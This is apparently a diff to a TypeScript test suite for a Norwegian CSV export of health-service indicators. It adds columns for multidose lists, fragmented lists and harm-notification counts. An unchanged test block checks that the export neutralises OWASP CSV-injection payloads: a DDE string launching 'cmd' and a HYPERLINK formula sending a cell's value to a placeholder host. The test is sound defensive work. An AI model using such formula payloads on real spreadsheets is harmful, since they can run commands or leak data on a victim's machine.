@@ -21,7 +21,16 @@ const row: IndicatorRow = {
   reopened: 0,
   paperMultidoseShare: 0.375,
   multiplePatientsShare: 0.125,
+  bothMultidoseShare: 0.25,
+  fragmentedList: 3,
+  fragmentedListShare: 0.375,
+  harmful: 6,
+  harmfulNotified: 1,
+  harmfulWillNotify: 2,
+  harmfulNotNotified: 0,
+  harmfulNotStated: 3,
 };
+const COLUMN_COUNT = 27;
 const table: IndicatorTable = {
   from: '2026-03-01',
   to: '2026-03-08',
@@ -43,7 +52,7 @@ describe('indicators as CSV for Norwegian Excel', () => {
   });
 
   it('separates fields by semicolons with Norwegian headings, one per figure', () => {
-    expect(header.split(';')).toHaveLength(19);
+    expect(header.split(';')).toHaveLength(COLUMN_COUNT);
     expect(header).toContain('Åpne ved slutt');
     expect(line.split(';').slice(0, 3)).toEqual(['2026-03-02', '2026-03-09', 'lovesa']);
   });
@@ -51,6 +60,30 @@ describe('indicators as CSV for Norwegian Excel', () => {
   it('writes decimal commas, empty fields for missing figures, and quotes what needs quoting', () => {
     expect(line).toContain(';30,25;100,5;2,5;7;;;1;0;0,375;0,125');
     expect(line).toContain('"Lofoten; ""Vesterålen"" og Salten"');
+  });
+
+  it('ends with the multidose, fragmented-list and harm figures, each under its own heading', () => {
+    const headings = header.split(';').slice(-8);
+    expect(headings).toEqual([
+      'Andel både papir og eMD',
+      'Dobbeltregistrering/fragmentert liste',
+      'Andel dobbeltregistrering/fragmentert liste',
+      'Skade utover nestenhendelse',
+      'Herav meldt uønsket hendelse',
+      'Herav vil melde',
+      'Herav ikke meldt',
+      'Herav ikke oppgitt',
+    ]);
+    expect(line.split(';').slice(-8)).toEqual(['0,25', '3', '0,375', '6', '1', '2', '0', '3']);
+  });
+
+  it('leaves every figure of a suppressed row empty, the new ones too', () => {
+    const hidden = Object.fromEntries(Object.keys(row).map((key) => [key, null]));
+    const suppressed = { ...row, ...hidden, start: row.start, end: row.end, group: 'x', label: 'X', suppressed: true };
+    const [, fields] = indicatorsCsv({ ...table, rows: [suppressed] })
+      .slice(1)
+      .split('\r\n');
+    expect(fields.split(';').slice(4)).toEqual(['ja', ...Array.from({ length: COLUMN_COUNT - 5 }, () => '')]);
   });
 });
 
@@ -108,7 +141,7 @@ describe('indicators as CSV: no formula from a name (OWASP CSV injection)', () =
   it.each(dangerous)('neutralises a name that starts with %j (%s), in the group and the name', (start) => {
     const payload = `${start}HYPERLINK("https://example.invalid/?x="&A1;"Klikk")`;
     const [, fields] = parseCsv(indicatorsCsv(withNames(`${start}cmd|' /C calc'!A0`, payload)));
-    expect(fields).toHaveLength(19);
+    expect(fields).toHaveLength(COLUMN_COUNT);
     expect(fields[2]).toBe(`'${start}cmd|' /C calc'!A0`);
     expect(fields[3]).toBe(`'${payload}`);
   });
@@ -123,5 +156,24 @@ describe('indicators as CSV: no formula from a name (OWASP CSV injection)', () =
     const [, fields] = parseCsv(indicatorsCsv({ ...table, rows: [negative] }));
     expect(fields[9]).toBe('-0,5');
     expect(fields[15]).toBe('-3');
+  });
+});
+
+describe('indicators as CSV: the words of the web app', () => {
+  const headings = indicatorsCsv({ ...table, rows: [] })
+    .slice(1)
+    .split('\r\n')[0]
+    .split(';');
+
+  it('calls a breach of a deadline «Fristbrudd», as the dashboard and the mail do, and nothing else', () => {
+    expect(headings).toContain('Fristbrudd');
+    expect(headings.filter((heading) => /\bSLA\b|brudd|overskred/i.test(heading))).toEqual(['Fristbrudd']);
+  });
+
+  it('writes units out: every duration is in «timer», none in an abbreviation', () => {
+    const durations = headings.filter((heading) => /alder|svar|løsningstid/i.test(heading));
+    expect(durations.length).toBeGreaterThan(0);
+    for (const heading of durations) expect(heading).toMatch(/\(timer\)$/);
+    expect(headings.filter((heading) => /\((t|h|d|min|døgn)\)/.test(heading))).toEqual([]);
   });
 });
